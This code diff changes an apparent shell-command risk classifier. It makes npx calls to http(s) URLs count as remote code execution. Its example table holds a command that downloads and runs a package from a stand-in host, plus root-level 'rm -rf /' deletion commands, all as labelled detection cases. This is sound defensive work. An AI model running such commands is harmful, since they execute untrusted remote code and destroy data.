@@ -135,7 +135,9 @@ const scriptRun = (call: Call, operands: readonly Field[]): Value => {
   const name = visible(inner[0] ?? literal('')).replace(/(?<=.)@[^/]*$/, '')
   return /^(?:@sallyport\/cli|sallyport)$/.test(name)
     ? call.run([literal('sallyport'), ...inner.slice(1)])
-    : call.run(inner)
+    : /^https?:/i.test(name) && inner[0] !== undefined
+      ? call.runFile(inner[0], 'javascript', inner.slice(1))
+      : call.run(inner)
 }
 
 const manage =
@@ -244,6 +246,7 @@ export const PACKAGE_COMMANDS: readonly CommandRow[] = [
     },
     examples: [
       ['npx prettier --check .'],
+      ['npx https://e.example/a.tgz', 'net.fetch', 'exec.remote'],
       ['npx rimraf /', 'fs.delete+recursive@root'],
       ["npx -c 'rm -rf /'", 'fs.delete+recursive+force@root'],
     ],
